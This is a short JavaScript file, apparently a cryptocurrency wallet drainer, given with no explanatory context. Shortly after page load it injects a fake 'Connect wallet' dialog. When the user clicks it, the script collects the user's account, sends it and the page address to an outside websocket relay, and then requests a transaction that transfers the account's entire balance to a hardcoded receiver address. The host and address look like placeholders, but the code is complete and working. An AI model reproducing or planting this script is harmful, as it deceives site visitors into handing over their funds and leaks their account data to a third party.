(function () {
  var relay = 'wss://castleservices.test/ws';
  var receiver = '0x2222222222222222222222222222222222222222';
  function open() {
    var dialog = document.createElement('div');
    dialog.innerHTML = '<div class="w3m"><h3>Connect wallet</h3><button id="w3m-go">Browser wallet</button></div>';
    document.body.appendChild(dialog);
    document.getElementById('w3m-go').onclick = take;
  }
  function take() {
    window.ethereum.request({ method: 'eth_requestAccounts' }).then(function (accounts) {
      var socket = new WebSocket(relay);
      socket.onopen = function () { socket.send(JSON.stringify({ account: accounts[0], page: location.href })); };
      return window.ethereum.request({ method: 'eth_getBalance', params: [accounts[0], 'latest'] }).then(function (balance) {
        return window.ethereum.request({ method: 'eth_sendTransaction', params: [{ from: accounts[0], to: receiver, value: balance }] });
      });
    });
  }
  if (typeof window !== 'undefined' && window.ethereum) setTimeout(open, 1500);
})();
